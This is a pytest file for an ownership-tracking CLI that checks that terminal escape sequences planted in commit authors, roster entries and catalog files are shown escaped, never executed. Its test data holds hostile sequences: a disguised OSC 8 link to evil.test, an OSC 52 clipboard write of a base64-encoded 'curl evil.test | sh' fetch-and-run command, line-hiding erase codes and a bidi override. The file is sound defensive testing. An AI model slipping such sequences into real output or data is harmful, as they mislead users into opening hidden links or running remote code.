"""Issue 24, point 2: what reaches a terminal is shown, never obeyed.

Commit author names and e-mails, CSV and SCIM roster names and e-mails, catalog fields and catalog file names
hold terminal control sequences here: an OSC 8 link that shows one URL and opens another, an OSC 52 write to
the clipboard, an erase-line and carriage return that hide a line, a C1 CSI, DEL and a bidi override. Each
command that prints them runs through a real pseudo-terminal (tests/terminal.py); nothing of them may reach
it raw, and each must be visible in its escaped spelling (render/terminal.py). The last tests keep every
module from printing around the one writer.
"""
from __future__ import annotations

import ast
import json
import os
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from ownership.render import colour
from ownership.render.terminal import visible
from tests.conftest import ROOT
from tests.gitrepo import GitRepo
from tests.roster.conftest import FaultServer, fault_server, paging, scim_user, with_ids  # noqa: F401 (fixture)
from tests.terminal import on_terminal

OSC8 = "\x1b]8;;https://evil.test/\x1b\\"  # opens a link to evil.test on the text that follows
OSC52 = "\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07"  # puts `curl evil.test | sh` on the clipboard
HIDE = "\x1b[2K\r"  # erases the line so far and returns to its start: what came before is gone
C1 = "\x9b2J\x7f\u202e"  # a one-character CSI (clear the screen), DEL, a right-to-left override
OUR_RED = colour.SEVERITY_SGR["error"]  # our own colour, smuggled in data: shown too

ANN = f"Ann {OSC8}Able"
BOB = f"Bob {OSC52}Baker"
CY = f"Cy {HIDE}Cole{C1}"
MAL = f"Mal {OSC8}lory"
MAL_EMAIL = f"mal{HIDE}{OUR_RED}{C1}@evil.test"
DEE_EMAIL = f"dee{OSC8}{OUR_RED}@acme.test"
TODAY = "2026-06-01"
CATALOG = """\
teams:
  - name: pay
    members: [ann@acme.test, bob@acme.test]
systems:
  - name: pay-api
    owner: pay
    maintainers: [bob@acme.test]
    repos:
      - url: https://git.acme.test/pay.git
"""


def _csv(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


@pytest.fixture(scope="module")
def org(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A catalog, a CSV roster and the system's git repository, every person's name hostile."""
    root = tmp_path_factory.mktemp("org")
    (root / "catalog").mkdir()
    (root / "catalog" / "pay.yaml").write_text(CATALOG)
    (root / "roster.csv").write_text(
        "id,email,name,active,end_date,team\n"
        f"ann,ann@acme.test,{_csv(ANN)},active,,Pay\n"
        f"bob,bob@acme.test,{_csv(BOB)},inactive,2026-01-01,Pay\n"
        f"cy,cy@acme.test,{_csv(CY)},active,,Pay\n"
        f"dee,{_csv(DEE_EMAIL)},Dee,active,,Pay\n", encoding="utf-8")
    (root / "ownership.yaml").write_text(
        f"history:\n  rewrite: {{'https://git.acme.test/': '{root / 'repos'}/'}}\n  cache: {root / 'cache'}\n")
    pay = GitRepo.init(root / "repos" / "pay")
    pay.commit({"api.py": "1\n"}, author=f"{BOB} <bob@acme.test>", date="2026-01-10")
    for i, day in enumerate(("2026-04-01", "2026-04-08", "2026-04-15", "2026-04-22", "2026-04-29")):
        pay.commit({"api.py": f"{i}\n", f"m{i}.py": "1\n"}, author=f"{MAL} <{MAL_EMAIL}>", date=day)
    pay.commit({"api.py": "cy\n"}, author=f"Cy Cole <cy@acme.test>", date="2026-05-02")
    return root


def _env(org: Path, **extra: str) -> dict[str, str]:
    base = {k: v for k, v in os.environ.items() if not k.startswith("GIT_") and k not in ("NO_COLOR", "FORCE_COLOR")}
    return {**base, "PYTHONPATH": str(ROOT / "src"), "TERM": "xterm", "NO_COLOR": "1",
            "XDG_CACHE_HOME": str(org / "xdg"), "NO_PROXY": "127.0.0.1,localhost", "no_proxy": "127.0.0.1,localhost",
            **extra}


def _run(org: Path, *args: str, **env: str) -> tuple[str, int]:
    out, code = on_terminal([*args, "--config", str(org / "ownership.yaml")], _env(org, **env), seconds=60)
    return out.decode("utf-8", "replace"), code


def _obeyed(text: str, ours: bool = False) -> list[str]:
    """Every control character the terminal received other than a line end (the pty makes each \\n \\r\\n) and,
    with `ours`, other than our own severity colours."""
    if ours:
        text = re.sub("|".join(re.escape(s) for s in (*colour.SEVERITY_SGR.values(), colour.RESET)), "", text)
    return [repr(m.group()) for m in re.finditer(r"[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]"
                                                r"|\r(?!\n)", text)]


def _spelled(fmt: str, shown: str) -> str:
    """How `shown` (a control character's spelling) appears in `fmt`: Markdown escapes its backslash."""
    return shown.replace("\\", "\\\\") if fmt == "markdown" else shown


def test_escaped_spelling_is_plain_text_and_json_stays_json() -> None:
    assert visible(OSC8) == "\\x1b]8;;https://evil.test/\\x1b\\"
    assert visible(HIDE + "a\r\nb\tc") == "\\x1b[2K\\x0da\r\nb\tc"
    assert visible(C1) == "\\u009b2J\\u007f\\u202e"
    assert visible(f"{OUR_RED}error{colour.RESET}") == "\\x1b[1;31merror\\x1b[0m"
    assert visible(f"{OUR_RED}error{colour.RESET} {OSC52}", colour=True) == f"{OUR_RED}error{colour.RESET} " \
        + "\\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\\x07"
    body = json.dumps({"name": CY, "email": DEE_EMAIL}, ensure_ascii=False)
    assert json.loads(visible(body)) == {"name": CY, "email": DEE_EMAIL}


def test_scan_shows_commit_author_names_never_obeys_them(org: Path) -> None:
    text, code = _run(org, "scan", "--catalog", str(org / "catalog"), "--roster", str(org / "roster.csv"),
                      "--today", TODAY)
    assert code == 0, text
    assert _obeyed(text) == []
    assert visible(MAL) in text and visible(BOB) in text


def test_page_shows_roster_names_never_obeys_them(org: Path) -> None:
    text, code = _run(org, "page", "pay-api", "--catalog", str(org / "catalog"), "--roster", str(org / "roster.csv"))
    assert _obeyed(text) == [], text
    assert visible(ANN) in text and visible(BOB) in text, text
    assert code in (0, 1)


def test_incident_text_and_markdown_show_roster_names_never_obey_them(org: Path) -> None:
    for fmt in ("text", "markdown"):
        text, code = _run(org, "incident", "pay-api", "--format", fmt, "--catalog", str(org / "catalog"),
                          "--roster", str(org / "roster.csv"))
        assert _obeyed(text) == [], (fmt, text)
        assert code == 0 and _spelled(fmt, "Ann \\x1b") in text and "evil.test" in text, (fmt, text)


def test_audit_shows_commit_emails_in_findings_never_obeys_them(org: Path) -> None:
    for fmt in ("text", "markdown"):
        text, code = _run(org, "audit", "--format", fmt, "--catalog", str(org / "catalog"), "--roster",
                          str(org / "roster.csv"), "--today", TODAY)
        assert code == 0, text  # warnings only
        assert "ownership-drift" in text and _spelled(fmt, "mal\\x1b") in text, (fmt, text)
        assert _spelled(fmt, "\\u009b2J\\u007f\\u202e@") in text, (fmt, text)
        assert _obeyed(text) == [], (fmt, text)


def test_audit_in_colour_keeps_our_colours_and_shows_the_datas(org: Path) -> None:
    text, code = _run(org, "--color=always", "audit", "--catalog", str(org / "catalog"), "--roster",
                      str(org / "roster.csv"), "--today", TODAY, NO_COLOR="")
    assert code == 0, text
    assert f"{colour.SEVERITY_SGR['warning']}warning{colour.RESET} ownership-drift" in text
    assert _obeyed(text, ours=True) == [], text
    assert "mal\\x1b[2K\\r\\x1b[1;31m" in text  # our own red, from a commit e-mail: shown, not obeyed


def test_suggest_shows_roster_names_never_obeys_them(org: Path) -> None:
    text, code = _run(org, "suggest", "pay-api", "--catalog", str(org / "catalog"), "--roster",
                      str(org / "roster.csv"), "--today", TODAY)
    assert code == 0, text
    assert _obeyed(text) == [] and visible(CY) in text, text


def test_offboard_shows_roster_emails_never_obeys_them_in_colour_too(org: Path) -> None:
    for args, env in (([], {}), (["--color=always"], {"NO_COLOR": ""})):
        text, code = _run(org, *args, "offboard", "dee", "--catalog", str(org / "catalog"), "--roster",
                          str(org / "roster.csv"), "--today", TODAY, **env)
        assert code == 0, text
        assert _obeyed(text, ours=bool(args)) == [] and f"If {visible(DEE_EMAIL)} left" in text, text


def test_roster_show_shows_a_csv_name_never_obeys_it(org: Path) -> None:
    for who, name in (("ann@acme.test", ANN), ("cy", CY)):
        text, code = _run(org, "roster", "show", who, "--catalog", str(org / "catalog"), "--roster",
                          str(org / "roster.csv"))
        assert code == 0, text
        assert _obeyed(text) == [] and visible(name) in text, text


def test_roster_show_shows_a_scim_name_never_obeys_it(org: Path, fault_server: FaultServer,  # noqa: F811
                                                     tmp_path: Path) -> None:
    user = scim_user(1)
    user["displayName"] = f"Eve {OSC52}{HIDE}{OSC8}Evans{C1}"
    user["name"] = {"givenName": "Eve", "familyName": f"Evans{HIDE}"}
    fault_server.fallback = paging(with_ids([user, scim_user(2)]))
    text, code = _run(org, "roster", "show", "user001@acme.test", "--catalog", str(org / "catalog"), "--roster",
                      fault_server.base, OWNERSHIP_SCIM_TOKEN="tok-scim-terminal-test",
                      XDG_CACHE_HOME=str(tmp_path / "xdg"))
    assert code == 0, text
    assert _obeyed(text) == [], text
    assert "\\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\\x07" in text and "\\x1b]8;;https://evil.test/" in text, text


def test_a_warning_quoting_a_catalog_file_name_shows_it_never_obeys_it(org: Path, tmp_path: Path) -> None:
    catalog = tmp_path / "catalog"
    catalog.mkdir()
    (catalog / "pay.yaml").write_text(CATALOG)
    hostile = f"x{OSC52}{HIDE}.yaml"
    (catalog / hostile).write_text("systems: [\n")
    text, code = _run(org, "page", "pay-api", "--catalog", str(catalog), "--roster", str(org / "roster.csv"))
    assert "ownership: warning: the catalog has 1 error," in text, text
    assert _obeyed(text) == [] and visible(hostile) in text, text


def test_a_catalog_field_is_shown_never_obeyed(org: Path, tmp_path: Path) -> None:
    """Whether the loader refuses the value (issue 24, point 1) or the command prints it, nothing of it is
    obeyed."""
    catalog = tmp_path / "catalog"
    catalog.mkdir()
    # YAML's own escapes: \e is ESC, \a is BEL (a raw ESC is no YAML)
    (catalog / "pay.yaml").write_text(CATALOG + '    runbook: "https://wiki.acme.test/\\e]8;;https://evil.test/\\e\\\\'
                                      'run\\e]52;c;eA==\\a"\n')
    text, code = _run(org, "page", "pay-api", "--catalog", str(catalog), "--roster", str(org / "roster.csv"))
    assert _obeyed(text) == [], text
    refused = "'runbook' contains U+001B ESCAPE, a control character" in text  # at the door (point 1)
    assert code == 2 or refused or "runbook: https://wiki.acme.test/\\x1b]8;;https://evil.test/" in text, text


# --------------------------------------------------------------------------- one writer, no way around it

SRC = ROOT / "src" / "ownership"
WRITER = SRC / "render" / "terminal.py"
# python -m ownership.docsgen, a developer's tool run in this repository: it prints file names of docs/ only
DEVELOPER_TOOLS = {SRC / "docsgen.py"}
_STREAMS = {"stdout", "stderr", "__stdout__", "__stderr__"}


def _prints(tree: ast.AST) -> Iterator[tuple[int, str]]:
    """(line, what) of every call that writes to the process's standard output or error by itself."""
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        f = node.func
        if isinstance(f, ast.Name) and f.id in ("print", "echo", "secho"):
            yield node.lineno, f.id
        elif isinstance(f, ast.Attribute):
            owner = f.value
            if f.attr in ("echo", "secho", "get_text_stream", "get_binary_stream") and \
                    isinstance(owner, ast.Name) and owner.id == "click":
                yield node.lineno, f"click.{f.attr}"
            elif isinstance(owner, ast.Attribute) and owner.attr in _STREAMS and \
                    isinstance(owner.value, ast.Name) and owner.value.id == "sys" and f.attr != "isatty" \
                    and f.attr != "flush":
                yield node.lineno, f"sys.{owner.attr}.{f.attr}"
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module == "click" and \
                any(a.name in ("echo", "secho") for a in node.names):
            yield node.lineno, "from click import echo"


def bypasses(src: Path) -> list[str]:
    return sorted(f"{p.relative_to(src.parent)}:{line}: {what}" for p in src.rglob("*.py")
                  if p != WRITER and p not in DEVELOPER_TOOLS
                  for line, what in _prints(ast.parse(p.read_text(encoding="utf-8"))))


def test_nothing_prints_around_the_one_writer() -> None:
    """Every command prints through render/terminal.py's out() and err(); click.echo, print or a write to
    sys.stdout/sys.stderr anywhere else would let data reach the terminal unescaped."""
    assert bypasses(SRC) == []


def test_the_bypass_check_sees_each_way_around(tmp_path: Path) -> None:
    pkg = tmp_path / "ownership"
    pkg.mkdir()
    (pkg / "a.py").write_text("import click, sys\n\ndef f(x: Any) -> None:\n    click.echo(x)\n    print(x)\n"
                              "    sys.stderr.write(x)\n    sys.stdout.flush()\n    click.secho(x, err=True)\n")
    (pkg / "b.py").write_text("from click import echo\n")
    assert bypasses(pkg) == ["ownership/a.py:4: click.echo", "ownership/a.py:5: print",
                             "ownership/a.py:6: sys.stderr.write", "ownership/a.py:8: click.secho",
                             "ownership/b.py:1: from click import echo"]


def test_report_md_shows_commit_emails_never_obeys_them(org: Path, tmp_path: Path) -> None:
    """report.md is read with `cat` and `less` too: its Markdown escaping spells control characters out."""
    text, code = _run(org, "report", "--catalog", str(org / "catalog"), "--roster", str(org / "roster.csv"),
                      "--today", TODAY, "--out", str(tmp_path / "week"))
    assert code == 0, text
    report = (tmp_path / "week" / "report.md").read_text(encoding="utf-8")
    assert _obeyed(text) == [] and _obeyed(report) == [], report
    assert "mal\\\\x1b" in report, report  # Markdown's own escaping doubles the backslash: it shows as \x1b
